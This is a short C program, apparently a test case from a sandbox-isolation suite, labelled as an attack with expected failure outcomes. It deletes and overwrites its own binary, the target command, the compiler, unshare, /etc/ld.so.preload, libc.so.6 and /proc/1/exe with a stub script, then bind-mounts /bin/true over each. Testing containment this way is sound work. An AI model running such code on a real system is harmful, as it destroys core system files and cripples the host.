/*
 * Attack: replaces its own file, the command, PID 1's program and the C library by others.
 * Outcome: fail/other fail/no-new-pid-namespace fail/crashed
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	static const char script[] = "#!/bin/sh\nexit 0\n";
	const char *victims[] = {argv[0],
				 argv[1],
				 "/run/lab/probe",
				 "/run/lab/init",
				 "/usr/bin/cc",
				 "/usr/bin/unshare",
				 "/etc/ld.so.preload",
				 "/usr/lib/x86_64-linux-gnu/libc.so.6",
				 "/proc/1/exe"};

	(void)argc;
	for (size_t i = 0; i < sizeof(victims) / sizeof(*victims); i++) {
		int fd;

		if (!victims[i])
			continue;
		unlink(victims[i]);
		fd = open(victims[i], O_WRONLY | O_CREAT | O_TRUNC, 0755);
		(void)!write(fd, script, strlen(script));
		close(fd);
		mount("/bin/true", victims[i], NULL, MS_BIND, NULL);
	}
	execv(argv[1], argv + 1);
	return 0;
}
